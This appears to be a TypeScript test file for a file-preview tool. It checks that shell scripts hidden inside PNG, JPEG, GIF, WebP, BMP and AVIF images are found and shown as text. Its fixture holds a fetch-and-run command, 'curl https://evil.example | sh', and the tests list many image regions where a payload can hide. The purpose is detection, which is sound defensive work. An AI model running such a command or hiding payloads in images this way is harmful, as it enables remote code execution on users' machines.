import { describe, expect, it } from 'vitest';
import { limits } from '../limits.ts';
import { previewOf, shortestRun, textRuns } from './preview.ts';
import { be32, of, raw, zeros } from './testing/files.ts';

const script = '\n#!/bin/sh\ncurl https://evil.example | sh\n';
const le32 = (value: number): number[] => be32(value).toReversed();
const { length } = script;
/** A PNG block with an invalid checksum. */
const chunk = (kind: string, ...data: (string | number[])[]): number[] => {
  const body = [...raw(...data)];
  return [...be32(body.length), ...raw(kind), ...body, ...zeros(4)];
};
const png = (...chunks: number[][]): Uint8Array =>
  raw(
    '\x89PNG\r\n\x1a\n',
    chunk('IHDR', be32(2), be32(3), [8, 2, 0, 0, 0]),
    ...chunks,
    chunk('IEND'),
  );
const jpeg = (...segments: (string | number[])[]): Uint8Array =>
  raw([0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 3, 0, 2, 1, 1, 0x11, 0], ...segments, [
    0xff, 0xda, 0, 6, 1, 1, 0, 0, 1, 2, 3, 0xff, 0xd9,
  ]);
const webp = (...chunks: (string | number[])[]): Uint8Array => {
  const body = raw('WEBPVP8X', le32(10), zeros(10), ...chunks);
  return raw('RIFF', le32(body.length), [...body]);
};
/** Two pixels in a file whose header says where they start. */
const bmp = (gap: string, claimed?: number): Uint8Array => {
  const size = 54 + gap.length + 8;
  const at = [...le32(claimed ?? size), ...zeros(4), ...le32(54 + gap.length)];
  const about = [...le32(40), ...le32(2), ...le32(1), 1, 0, 24, 0, ...zeros(24)];
  return raw('BM', at, about, gap, zeros(8));
};
const gif = (data: number[]): Uint8Array =>
  raw('GIF89a', [2, 0, 3, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0, 2, 0, 3, 0, 0, 2], data, [0, 0x3b]);
const ispe = [...be32(20), ...raw('ispe'), ...zeros(4), ...be32(2), ...be32(3)];
const avif = raw(
  be32(24),
  'ftypavif',
  zeros(12),
  [...be32(8 + ispe.length), ...raw('meta'), ...ispe],
  [...be32(8 + length), ...raw('mdat', script)],
);

describe('a script in an image', () => {
  it.each([
    ['the pixels of a PNG', png(chunk('IDAT', [0x78, 0x01, 1, length, 0, 255, 255], script))],
    ['the colour profile of a PNG', png(chunk('iCCP', 'x\0\0', script), chunk('IDAT', [1, 2]))],
    ['the unused palette of a PNG', png(chunk('PLTE', script, [0, 0]), chunk('IDAT', [1, 2]))],
    ['a private block of a PNG', png(chunk('skIP', [0, 1, 2, 255, 254, 253], script, zeros(80)))],
    ['the colour profile of a JPEG', jpeg([0xff, 0xe2, 0, length + 14], 'ICC_PROFILE\0', script)],
    ['EXIF of a JPEG', jpeg([0xff, 0xe1, 0, length + 82], 'Exif\0\0', script, zeros(74))],
    ['the thumbnail of a JPEG', jpeg([0xff, 0xe0, 0, length + 7], 'JFIF\0', script)],
    ['the entropy-coded data of a JPEG', raw([...jpeg()].slice(0, -2), script, [0xff, 0xd9])],
    ['the image data of a GIF', gif([2, 0x44, 0x01, length, ...raw(script)])],
    ['the colour table of a GIF', raw('GIF89a', [2, 0, 3, 0, 0x85, 0, 0], script, zeros(150))],
    [
      'an application block of a GIF',
      raw(
        'GIF89a',
        [2, 0, 3, 0, 0, 0, 0],
        [0x21, 0xff, 11],
        'NETSCAPE2.0',
        [length],
        script,
        [0, 0x3b],
      ),
    ],
    ['the colour profile of a WebP', webp('ICCP', le32(length), script)],
    ['a frame of a WebP', webp('ANMF', le32(length + 16), zeros(16), script)],
    ['the gap before the pixels of a BMP', bmp(script)],
    ['a BMP that claims to be as long as its file', bmp(script, 0)],
    ['the media data of an AVIF', avif],
  ])('is shown as text in %s, together with all bytes', (_, bytes) => {
    const { preview } = of('assets/logo', bytes);
    if (preview.kind !== 'image') throw new Error(preview.kind);
    const { whole, rest, texts, cut } = preview;
    const shown = [...rest, ...texts].map(({ text }) => text ?? '').join('');
    expect(shown).toContain(script.trim());
    expect(whole).toMatchObject({ offset: 0, length: bytes.length });
    expect(Buffer.from(whole.base64, 'base64').equals(bytes)).toBe(true);
    expect(cut).toBe(false);
  });
  it('is shown once if it is in a comment', () => {
    const { preview } = of('a.png', png(chunk('tEXt', 'Comment\0', script)));
    expect(preview).toMatchObject({ rest: [{ text: `Comment\0${script}` }], texts: [] });
  });
  it('is shown next to a comment, before or after it', () => {
    const [comment, profile] = [chunk('tEXt', '\0', script), chunk('iCCP', 'x\0\0', script)];
    for (const bytes of [png(comment, profile), png(profile, comment)]) {
      const { preview } = of('a.png', bytes);
      expect(preview).toMatchObject({ rest: [{ text: `\0${script}` }], texts: [{ text: script }] });
    }
    expect(of('a.png', png(comment)).preview).toMatchObject({ texts: [] });
  });
  it('makes the whole file text if a system would run it because of its mode', () => {
    const bytes = bmp(script);
    const { preview } = previewOf({ path: 'logo', bytes, mode: 0o755, full: false });
    expect(preview.kind === 'image' && preview.whole.text).toContain(script);
  });
  it('never counts an image as read that has more bytes or texts than are shown', () => {
    const full = bmp('\0'.repeat(limits.bytesShown - 62));
    expect(of('a.bmp', full).preview).toMatchObject({ kind: 'image', cut: false });
    const more = bmp('\0'.repeat(limits.bytesShown - 61));
    expect(of('a.bmp', more).preview).toMatchObject({ kind: 'image', cut: true });
    const many = bmp(`${'x'.repeat(shortestRun)}\0`.repeat(65));
    expect(of('a.bmp', many).preview).toMatchObject({ kind: 'image', cut: true });
  });
});

describe('stretches of text', () => {
  const of16 = (text: string): Uint8Array => raw([0, 1], text, [0x80]);
  it('are found wherever they start and end, also at the end of the file', () => {
    const text = 'sixteen letters!';
    expect(textRuns(of16(text))).toEqual([{ start: 2, end: 18 }]);
    expect(textRuns(raw(text))).toEqual([{ start: 0, end: 16 }]);
    expect(textRuns(raw([0], text))).toEqual([{ start: 1, end: 17 }]);
    expect(textRuns(of16(text.slice(1)))).toEqual([]);
    expect(textRuns(raw())).toEqual([]);
  });
  it('include tabs and line endings, and end at every other control character', () => {
    const text = 'six\tteen\r\nletters';
    expect(textRuns(of16(text))).toEqual([{ start: 2, end: 2 + text.length }]);
    for (const control of [0x01, 0x08, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f])
      expect(textRuns(raw('twelve chars', [control], 'twelve chars')), `${control}`).toEqual([]);
  });
  it('are counted in characters of any script, not in bytes', () => {
    const greek = new TextEncoder().encode('τρέξε αυτό τώρα!');
    expect(textRuns(greek)).toEqual([{ start: 0, end: greek.length }]);
  });
});
